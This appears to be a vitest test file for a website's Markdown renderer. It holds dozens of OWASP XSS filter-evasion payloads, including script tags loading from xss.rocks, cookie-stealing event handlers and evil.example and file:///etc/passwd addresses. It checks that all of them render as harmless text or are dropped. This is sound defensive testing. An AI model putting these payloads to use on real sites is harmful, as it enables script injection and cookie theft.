import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { bodyKinds, markdownBlocks, markdownFirstImage, renderMarkdown, safeUrl } from './markdown.ts';

/**
 * Payloads of the OWASP XSS filter evasion cheat sheet
 * (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), as raw HTML in a body and as
 * the addresses of Markdown links and images, plus Markdown's own ways of writing an address.
 */
const htmlPayloads = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "\\\";alert('XSS');//",
  "</script><script>alert('XSS');</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:[code]">',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.rocks/xss.js></SCRIPT>\'"-->',
  "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
  '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
];

const addressPayloads = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'jav\tascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript&colon;alert(1)',
  '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  '//evil.example/x.png',
  '/\\evil.example/x.png',
  '\\\\evil.example/x.png',
  'https:\\\\evil.example',
  'file:///etc/passwd',
  'jar:https://evil.example!/',
  'x.png',
  '&#0000106avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\u0000script:alert(1)',
];

const markdownWays = (url: string) => [
  `[link](${url})`,
  `[link](<${url}>)`,
  `![pic](${url})`,
  `![pic](<${url}>)`,
  `[ref][r]\n\n[r]: ${url}`,
  `![ref][r]\n\n[r]: <${url}>`,
  `<${url}>`,
  `[link](${url} "title\\" onmouseover=\\"alert(1)")`,
];

const allowedTags = new Set([
  'p',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'ul',
  'ol',
  'li',
  'a',
  'img',
  'strong',
  'em',
  'del',
  'code',
  'pre',
  'br',
  'hr',
  'blockquote',
  'div',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
const allowedAttributes = new Set([
  'href',
  'src',
  'alt',
  'title',
  'rel',
  'loading',
  'decoding',
  'class',
  'scope',
  'start',
  'id',
]);

/**
 * Every tag of the output, with its attributes, checked against the renderer's fixed lists: the renderer
 * escapes every `<` of text, so each `<` in its output opens a tag it wrote.
 */
function expectSafe(html: string) {
  const tags = html.matchAll(/<(\/?)([a-zA-Z0-9]+)([^>]*)>/g);
  const textWithoutTags = html.replace(/<\/?[a-zA-Z0-9]+[^>]*>/g, '');
  // What is left outside tags holds no '<' or '>' that a browser could read as markup.
  expect(textWithoutTags, html).not.toMatch(/[<>]/);
  for (const [, , name, rest] of tags) {
    expect(allowedTags.has(name!), `${name} in ${html}`).toBe(true);
    const attributes = [...rest!.matchAll(/\s([a-zA-Z-]+)="([^"]*)"/g)];
    // Nothing but well-formed name="value" pairs.
    expect(rest!.replace(/\s([a-zA-Z-]+)="([^"]*)"/g, '').trim(), html).toBe('');
    for (const [, attribute, value] of attributes) {
      expect(allowedAttributes.has(attribute!), `${attribute} in ${html}`).toBe(true);
      if (attribute === 'href' || attribute === 'src') {
        const decoded = value!.replace(/&amp;/g, '&');
        expect(decoded, html).toMatch(/^(https?:\/\/[^\\]|mailto:|\/(?![/\\])|#)/i);
      }
    }
  }
  expect(html.toLowerCase()).not.toMatch(/<(script|style|iframe|object|embed|svg|math|base|meta|link)\b/);
  // No event handler attribute in any tag (text like `&lt;a onclick=` is harmless text).
  for (const [tag] of html.matchAll(/<[a-zA-Z][^>]*>/g)) expect(tag.toLowerCase()).not.toMatch(/\son[a-z]+=/);
}

describe('renderMarkdown against the OWASP XSS filter evasion payloads', () => {
  it.each(htmlPayloads)('raw HTML stays text: %s', (payload) => {
    for (const source of [
      payload,
      `Some text ${payload} more text`,
      `- ${payload}`,
      `| a |\n|---|\n| ${payload} |`,
    ]) {
      const html = renderMarkdown(source);
      expectSafe(html);
    }
    // The payload's markup is shown as the text it is.
    expect(renderMarkdown('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
  });

  it.each(addressPayloads)('a dangerous address is dropped, its text kept: %s', (url) => {
    for (const source of markdownWays(url)) {
      const html = renderMarkdown(source);
      expectSafe(html);
      expect(html).not.toMatch(/(href|src)="(?!https?:\/\/|\/|#|mailto:)/);
    }
    expect(renderMarkdown(`[click me](${url})`)).not.toContain('<a');
  });

  it('keeps http(s), mailto and site addresses, external links marked nofollow ugc noopener', () => {
    expect(renderMarkdown('[a](https://example.com/x?y=1&z=2)')).toBe(
      '<p><a href="https://example.com/x?y=1&amp;z=2" rel="nofollow ugc noopener">a</a></p>',
    );
    expect(renderMarkdown('[mail](mailto:team@example.com)')).toBe(
      '<p><a href="mailto:team@example.com" rel="nofollow ugc noopener">mail</a></p>',
    );
    expect(renderMarkdown('[forum](/userforum) [top](#data)')).toBe(
      '<p><a href="/userforum">forum</a> <a href="#data">top</a></p>',
    );
    expect(renderMarkdown('<https://example.com>')).toBe(
      '<p><a href="https://example.com" rel="nofollow ugc noopener">https://example.com</a></p>',
    );
    expect(renderMarkdown('![A chart](/content/images/rsi.png "RSI")')).toBe(
      '<p><img src="/content/images/rsi.png" alt="A chart" title="RSI" loading="lazy" decoding="async"></p>',
    );
    // An image keeps neither mailto nor a bare anchor.
    expect(renderMarkdown('![x](mailto:a@b.c) ![y](#top)')).toBe('<p>x y</p>');
  });

  it('checks addresses by their scheme, whatever their case or hidden characters', () => {
    expect(safeUrl('HTTPS://EXAMPLE.COM', 'link')).toBe('HTTPS://EXAMPLE.COM');
    expect(safeUrl('https://', 'link')).toBeUndefined();
    expect(safeUrl('//example.com', 'link')).toBeUndefined();
    expect(safeUrl('/\\example.com', 'image')).toBeUndefined();
    expect(safeUrl('java\u200bscript:alert(1)', 'link')).toBeUndefined();
    expect(safeUrl('/images/a b.png', 'image')).toBeUndefined();
    expect(safeUrl('/images/a%20b.png', 'image')).toBe('/images/a%20b.png');
  });
});

describe('renderMarkdown', () => {
  it('renders headings, nested lists, emphasis, code, quotes and rules', () => {
    const source = [
      '# Title',
      '',
      '## Part *one*',
      '',
      '- first',
      '  - inner **bold**',
      '  - inner two',
      '- second',
      '',
      '3. three',
      '4. four',
      '',
      '> quoted',
      '',
      '---',
      '',
      'Use `npm start` or:',
      '',
      '```sh',
      'npm run build && echo "<done>"',
      '```',
    ].join('\n');
    expect(renderMarkdown(source)).toBe(
      '<h1>Title</h1><h2>Part <em>one</em></h2>' +
        '<ul><li>first<ul><li>inner <strong>bold</strong></li><li>inner two</li></ul></li><li>second</li></ul>' +
        '<ol start="3"><li>three</li><li>four</li></ol>' +
        '<blockquote><p>quoted</p></blockquote><hr>' +
        '<p>Use <code>npm start</code> or:</p>' +
        '<pre><code class="language-sh">npm run build &amp;&amp; echo &quot;&lt;done&gt;&quot;</code></pre>',
    );
  });

  it('puts headings under the page title when asked, with anchors when asked', () => {
    expect(renderMarkdown('# A\n\n## B\n\n### C', { topHeadingLevel: 2 })).toBe(
      '<h2>A</h2><h2>B</h2><h3>C</h3>',
    );
    expect(renderMarkdown('## The data {#data}\n\n## Two words\n\n## Two words', { headingIds: true })).toBe(
      '<h2 id="data">The data</h2><h2 id="two-words">Two words</h2><h2 id="two-words-2">Two words</h2>',
    );
  });

  it('renders GFM tables, with alignment and inline content', () => {
    expect(renderMarkdown('| Bank | Limit |\n|:---|---:|\n| **A** | ₹1 lakh |\n| B |')).toBe(
      '<div class="table-scroll"><table><thead><tr><th scope="col" class="align-left">Bank</th>' +
        '<th scope="col" class="align-right">Limit</th></tr></thead><tbody>' +
        '<tr><td class="align-left"><strong>A</strong></td><td class="align-right">₹1 lakh</td></tr>' +
        '<tr><td class="align-left">B</td><td></td></tr></tbody></table></div>',
    );
  });

  it('keeps a paragraph line break as a line break (bodies written before Markdown)', () => {
    expect(renderMarkdown('Line one\nLine two\n\nNext')).toBe('<p>Line one\nLine two</p><p>Next</p>');
  });

  it('gives the text without markup for reading aloud, and the first image', () => {
    const source =
      '## Steps\n\n- Open **the page**\n- Type [three](/x) letters\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n![Chart](/c.png)';
    expect(markdownBlocks(source)).toEqual(['Steps', 'Open the page', 'Type three letters', 'A, B', '1, 2']);
    expect(markdownFirstImage(source)).toEqual({ url: '/c.png', alt: 'Chart' });
    expect(markdownFirstImage('![x](javascript:alert(1))')).toBeUndefined();
  });
});

describe('docs/trading-methods.md', () => {
  const source = fs.readFileSync(new URL('../../../docs/trading-methods.md', import.meta.url), 'utf8');
  const html = renderMarkdown(source, bodyKinds.document);

  it('renders safely, with its anchors, tables, code and nested lists', () => {
    expectSafe(html);
    expect(html).toMatch(/^<h1 id="trading-methods">Trading methods<\/h1>/);
    // Every anchor the tools' "How … is computed" links point at (methodAnchors, eventMethodAnchors).
    for (const id of [
      'data',
      'evidence',
      'contracts',
      'costs',
      'signal',
      'backtest',
      'strategy',
      'patterns',
      'impact-heatmap',
      'rbi-day-straddle',
      'fed-day-alert',
      'volatility-event-calendar',
    ])
      expect(html).toContain(`<h2 id="${id}">`);
    expect(html).not.toContain('{#');
    expect(html).toContain('<a href="/disclaimer">disclaimer</a>');
    expect(html).toContain('<th scope="col">lot</th>');
    expect(html).toContain('<code>packages/market/src/nifty-contracts.ts</code>');
    expect(html).toContain('<strong>Prices</strong>');
    // Every list item of the document is an item of its own (the hand-written parser folded nested ones).
    const nested = source.split('\n').filter((line) => /^ {2,}[-*] /.test(line)).length;
    if (nested > 0) expect(html).toMatch(/<li>(?:(?!<\/li>).)*<ul>/s);
    const items = source.split('\n').filter((line) => /^\s*([-*]|\d+\.) /.test(line)).length;
    expect(html.match(/<li>/g)?.length).toBe(items);
  });
});
